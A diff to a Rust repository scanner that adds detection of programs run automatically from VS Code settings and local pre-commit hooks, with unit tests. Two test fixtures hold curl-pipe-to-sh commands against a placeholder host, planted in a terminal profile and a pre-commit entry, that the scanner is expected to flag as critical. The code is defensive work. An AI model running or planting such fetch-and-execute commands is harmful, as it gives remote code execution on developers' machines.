@@ -1,13 +1,15 @@
 //! Code that runs on its own while someone works in the repository:
-//! package-manager lifecycle scripts, build scripts, cargo runners, direnv,
-//! editor tasks, devcontainer commands, and remote scripts in Makefiles and
-//! shell scripts. What each would run is judged by the firewall engine.
+//! package-manager lifecycle scripts, build scripts (Python's in
+//! [`crate::python`]), cargo runners, direnv, editor tasks and settings,
+//! devcontainer commands, local pre-commit hooks, and remote scripts in
+//! Makefiles and shell scripts. What each would run is judged by the
+//! firewall engine.
 
 use serde_json::Value;
 
 use crate::catalog::finding;
 use crate::judge::judge;
-use crate::text::{clip, json_command, line_of_str, parse_json};
+use crate::text::{clip, json_command, line_of_str, parse_json, shell_quote};
 use crate::walk::{FileView, ScanContext};
 use crate::{Finding, Severity};
 
@@ -25,7 +27,13 @@ pub(crate) fn check(f: &FileView, ctx: &ScanContext, out: &mut Vec<Finding>) {
         "tasks.json" if f.rel.ends_with(".vscode/tasks.json") => {
             vscode_tasks(f.rel, text, ctx, out)
         }
+        "settings.json" if f.rel.ends_with(".vscode/settings.json") => {
+            vscode_settings(f.rel, text, ctx, out)
+        }
         "devcontainer.json" | ".devcontainer.json" => devcontainer(f.rel, text, ctx, out),
+        "setup.py" => crate::python::setup_py(f.rel, text, ctx, out),
+        "pyproject.toml" => crate::python::pyproject(f.rel, text, out),
+        ".pre-commit-config.yaml" => pre_commit(f.rel, text, ctx, out),
         _ => {
             if is_makefile(f.name) || is_shell_script(f.name, text) {
                 remote_scripts(f.rel, text, ctx, out);
@@ -245,6 +253,128 @@ fn vscode_tasks(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>
     }
 }
 
+/// Settings whose value is a program the editor or an extension starts.
+fn vscode_program_key(key: &str) -> bool {
+    let last = key.rsplit('.').next().unwrap_or(key);
+    const NOT_PROGRAMS: &[&str] = &[
+        "venvPath",
+        "stubPath",
+        "storagePath",
+        "logPath",
+        "cachePath",
+    ];
+    if NOT_PROGRAMS.contains(&last) {
+        return false;
+    }
+    key.starts_with("terminal.integrated.shell.")
+        || key.starts_with("terminal.integrated.automationShell.")
+        || key == "eslint.runtime"
+        || last == "path"
+        || last.ends_with("Path")
+}
+
+/// A path inside the repository: relative with a directory part, or from
+/// `${workspaceFolder}`. A bare name is looked up on PATH; an absolute path
+/// or `~` is the user's own.
+fn repo_path(p: &str) -> Option<String> {
+    let p = p.trim();
+    for var in ["${workspaceFolder}", "${workspaceRoot}"] {
+        if let Some(rest) = p.strip_prefix(var) {
+            return Some(format!(".{rest}"));
+        }
+    }
+    if p.is_empty() || p.starts_with(['/', '~', '$']) || p.contains("://") {
+        return None;
+    }
+    // C:\ and other Windows absolute paths.
+    if p.as_bytes().get(1) == Some(&b':') {
+        return None;
+    }
+    if p.contains('/') || p.contains('\\') {
+        Some(if p.starts_with("./") || p.starts_with("../") {
+            p.to_string()
+        } else {
+            format!("./{p}")
+        })
+    } else {
+        None
+    }
+}
+
+/// Environments the user creates; a path into one is what a project's
+/// settings usually point at.
+const ENV_DIRS: &[&str] = &["./.venv/", "./venv/", "./node_modules/", "./target/"];
+
+fn vscode_settings(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
+    let Some(Value::Object(settings)) = parse_json(text) else {
+        return;
+    };
+    // (key as written, program, its arguments)
+    let mut programs: Vec<(String, String, String)> = Vec::new();
+    for (key, value) in &settings {
+        let profiles = key.starts_with("terminal.integrated.profiles.");
+        let automation = key.starts_with("terminal.integrated.automationProfile.");
+        if profiles || automation {
+            let entries: Vec<(String, &Value)> = if profiles {
+                value
+                    .as_object()
+                    .into_iter()
+                    .flatten()
+                    .map(|(n, p)| (format!("{key}.{n}"), p))
+                    .collect()
+            } else {
+                vec![(key.clone(), value)]
+            };
+            for (name, p) in entries {
+                let args = p.get("args").and_then(json_command).unwrap_or_default();
+                let paths: Vec<&str> = match p.get("path") {
+                    Some(Value::String(s)) => vec![s.as_str()],
+                    Some(Value::Array(a)) => a.iter().filter_map(Value::as_str).collect(),
+                    _ => Vec::new(),
+                };
+                for path in paths {
+                    programs.push((name.clone(), path.to_string(), args.clone()));
+                }
+            }
+        } else if key == "go.alternateTools" {
+            for (tool, p) in value.as_object().into_iter().flatten() {
+                if let Some(p) = p.as_str() {
+                    programs.push((format!("{key}.{tool}"), p.to_string(), String::new()));
+                }
+            }
+        } else if vscode_program_key(key)
+            && let Some(p) = value.as_str()
+        {
+            programs.push((key.clone(), p.to_string(), String::new()));
+        }
+    }
+    for (key, program, args) in programs {
+        let line = line_of_str(text, &program);
+        let (path, base) = match repo_path(&program) {
+            Some(p) if ENV_DIRS.iter().any(|d| p.starts_with(d)) => (p, Severity::Low),
+            Some(p) => (p, Severity::Medium),
+            // A program from PATH: only its arguments can make it a finding.
+            None if !args.is_empty() => (program.clone(), Severity::Low),
+            None => continue,
+        };
+        let cmd = format!("{} {args}", shell_quote(&path));
+        let j = judge(&ctx.options.engine, cmd.trim());
+        if repo_path(&program).is_none() && j.severity < Severity::Medium {
+            continue;
+        }
+        let mut f = finding(
+            "lifecycle-vscode-settings",
+            j.severity.max(base),
+            rel,
+            line,
+            format!("`{}` runs `{}`", clip(&key, 80), clip(&path, 80)),
+            clip(&format!("{key}: {}", cmd.trim()), 200),
+        );
+        f.why = format!("{} {}.", f.why, j.note);
+        out.push(f);
+    }
+}
+
 const DEVCONTAINER_HOOKS: &[&str] = &[
     "initializeCommand",
     "onCreateCommand",
@@ -287,6 +417,100 @@ fn devcontainer(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>
             out.push(f);
         }
     }
+}
+
+/// `.pre-commit-config.yaml`, read line by line (block style, as pre-commit
+/// writes it): the `entry` of every hook under `repo: local`, judged.
+fn pre_commit(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
+    let lines: Vec<&str> = text.lines().collect();
+    let mut local = false;
+    // The hook being read: (line of its entry, entry, language, id).
+    let mut hook: Option<(usize, String)> = None;
+    let mut language = String::new();
+    let mut id = String::new();
+    let mut hooks: Vec<(usize, String, String, String)> = Vec::new();
+    let mut i = 0;
+    while i < lines.len() {
+        let raw = lines[i];
+        let l = raw.trim_start().trim_start_matches("- ").trim();
+        i += 1;
+        let at = i;
+        if l.starts_with('#') {
+            continue;
+        }
+        let Some((key, value)) = l.split_once(':') else {
+            continue;
+        };
+        let value = unquote(value.split(" #").next().unwrap_or("").trim());
+        match key.trim() {
+            "repo" => {
+                if let Some((n, e)) = hook.take() {
+                    hooks.push((n, e, std::mem::take(&mut language), std::mem::take(&mut id)));
+                }
+                local = value == "local";
+            }
+            "id" if local => {
+                if let Some((n, e)) = hook.take() {
+                    hooks.push((n, e, std::mem::take(&mut language), std::mem::take(&mut id)));
+                }
+                language.clear();
+                id = value.to_string();
+            }
+            "language" if local => language = value.to_string(),
+            "entry" if local => {
+                let mut entry = value.to_string();
+                // A folded or literal block: the more indented lines below.
+                if entry.starts_with(['|', '>']) {
+                    let indent = raw.len() - raw.trim_start().len();
+                    let mut parts = Vec::new();
+                    while i < lines.len() {
+                        let next = lines[i];
+                        let ni = next.len() - next.trim_start().len();
+                        if !next.trim().is_empty() && ni <= indent {
+                            break;
+                        }
+                        parts.push(next.trim());
+                        i += 1;
+                    }
+                    entry = parts.join(" ").trim().to_string();
+                }
+                hook = Some((at, entry));
+            }
+            _ => {}
+        }
+    }
+    if let Some((n, e)) = hook.take() {
+        hooks.push((n, e, language, id));
+    }
+    for (line, entry, language, id) in hooks {
+        // `language: script` runs a file from the repository.
+        let cmd = if language == "script" && !entry.starts_with(['.', '/']) {
+            format!("./{entry}")
+        } else {
+            entry.clone()
+        };
+        let j = judge(&ctx.options.engine, &cmd);
+        let name = if id.is_empty() { "(unnamed)" } else { &id };
+        let mut f = finding(
+            "lifecycle-pre-commit",
+            j.severity,
+            rel,
+            line,
+            format!("local hook `{}` runs on `git commit`", clip(name, 60)),
+            clip(&format!("entry: {entry}"), 200),
+        );
+        f.why = format!("{} {}.", f.why, j.note);
+        out.push(f);
+    }
+}
+
+fn unquote(v: &str) -> &str {
+    for q in ['"', '\''] {
+        if let Some(inner) = v.strip_prefix(q).and_then(|r| r.strip_suffix(q)) {
+            return inner;
+        }
+    }
+    v
 }
 
 fn is_makefile(name: &str) -> bool {
@@ -439,5 +663,57 @@ mod tests {
             by_id(&found, "lifecycle-remote-script"),
             vec![(Severity::High, 2), (Severity::High, 3)]
         );
+    }
+
+    #[test]
+    fn vscode_settings_that_run_repo_programs() {
+        let s = r#"{
+  // the project's interpreter
+  "python.defaultInterpreterPath": "${workspaceFolder}/tools/python",
+  "terminal.integrated.profiles.linux": {
+    "dev": {"path": "bash", "args": ["-c", "curl -s https://example.invalid/t | sh"]},
+    "repo": {"path": "./scripts/shell"}
+  },
+  "rust-analyzer.server.path": "/usr/local/bin/rust-analyzer",
+  "eslint.runtime": ".venv/bin/node",
+}"#;
+        let found = scan_files(&[(".vscode/settings.json", s)]);
+        let mut got = by_id(&found, "lifecycle-vscode-settings");
+        got.sort();
+        assert_eq!(
+            got,
+            vec![
+                (Severity::Low, 9),
+                (Severity::Medium, 3),
+                (Severity::Medium, 6),
+                (Severity::Critical, 5)
+            ],
+            "{found:#?}"
+        );
+    }
+
+    #[test]
+    fn vscode_formatting_settings_are_not_found() {
+        let s = r#"{"editor.formatOnSave": true, "editor.tabSize": 4,
+  "[python]": {"editor.defaultFormatter": "ms-python.black-formatter"},
+  "python.defaultInterpreterPath": "python3", "files.exclude": {"**/.git": true}}"#;
+        assert!(scan_files(&[(".vscode/settings.json", s)]).is_empty());
+    }
+
+    #[test]
+    fn pre_commit_local_hooks_are_judged_and_remote_ones_are_not_found() {
+        let cfg = "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0\n    hooks:\n      - id: black\n  - repo: local\n    hooks:\n      - id: fetch\n        name: fetch\n        entry: bash -c 'curl -fsSL https://example.invalid/h | sh'\n        language: system\n      - id: lint\n        entry: scripts/lint.sh\n        language: script\n      - id: fmt\n        entry: black\n        language: system\n";
+        let found = scan_files(&[(".pre-commit-config.yaml", cfg)]);
+        assert_eq!(
+            by_id(&found, "lifecycle-pre-commit"),
+            vec![
+                (Severity::Critical, 10),
+                (Severity::Medium, 13),
+                (Severity::Low, 16)
+            ],
+            "{found:#?}"
+        );
+        let remote = "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n    entry: ignored-here\n";
+        assert!(scan_files(&[(".pre-commit-config.yaml", remote)]).is_empty());
     }
 }
